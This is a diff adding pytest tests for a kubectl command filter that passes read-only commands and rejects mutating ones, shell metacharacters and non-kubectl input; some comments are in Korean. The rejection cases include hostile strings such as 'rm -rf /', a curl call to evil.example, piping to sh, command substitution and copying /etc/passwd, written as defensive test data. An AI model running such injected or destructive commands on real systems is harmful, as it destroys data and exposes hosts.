@@ -0,0 +1,69 @@
+import pytest
+
+from app.services.pattern_matching_system import kubectl_passthrough
+
+
+@pytest.mark.parametrize(
+    ("raw_command", "expected"),
+    [
+        ("kubectl get pods -A", "kubectl get pods -A"),
+        ("  kubectl describe pod api-7d9f -n prod  ", "kubectl describe pod api-7d9f -n prod"),
+        ("kubectl logs web-1 -c app --tail=100", "kubectl logs web-1 -c app --tail=100"),
+        ("kubectl top nodes", "kubectl top nodes"),
+        # 인용은 argv 기준으로 다시 만든다
+        ('kubectl get pods -l "app in (web, api)"', "kubectl get pods -l 'app in (web, api)'"),
+    ],
+)
+def test_read_only_command_passes_through(raw_command: str, expected: str) -> None:
+    generated = kubectl_passthrough(raw_command)
+
+    assert generated is not None
+    assert generated.command == expected
+    assert generated.usages == ()
+
+
+@pytest.mark.parametrize(
+    "raw_command",
+    [
+        "kubectl delete pod api-7d9f",
+        "kubectl drain node-1 --ignore-daemonsets",
+        "kubectl exec -it api-7d9f -- sh",
+        "kubectl apply -f deploy.yaml",
+        "kubectl edit deploy api",
+        "kubectl patch deploy api -p '{}'",
+        "kubectl cordon node-1",
+        "kubectl cp api-7d9f:/etc/passwd ./passwd",
+        "kubectl port-forward svc/api 8080:80",
+        "kubectl run debug --image=busybox",
+        "kubectl create ns tmp",
+    ],
+)
+def test_mutating_command_is_not_passed_through(raw_command: str) -> None:
+    assert kubectl_passthrough(raw_command) is None
+
+
+@pytest.mark.parametrize(
+    "raw_command",
+    [
+        "kubectl get pods; rm -rf /",
+        "kubectl get pods | sh",
+        "kubectl get pods && curl evil.example",
+        "kubectl get pods $(whoami)",
+        "kubectl get pods `whoami`",
+        "kubectl get pods > /tmp/out",
+        "kubectl get pods < /dev/null",
+        "kubectl get pods\nkubectl delete pod api",
+        # 인용 안에 있어도 통과시키지 않는다
+        "kubectl get pods -l 'app=$(id)'",
+    ],
+)
+def test_shell_metacharacters_are_rejected(raw_command: str) -> None:
+    assert kubectl_passthrough(raw_command) is None
+
+
+@pytest.mark.parametrize(
+    "raw_command",
+    ["모든 파드 보여줘", "kubectl", "kubectl get pods 'unterminated", "kubectlget pods"],
+)
+def test_non_kubectl_input_is_not_passed_through(raw_command: str) -> None:
+    assert kubectl_passthrough(raw_command) is None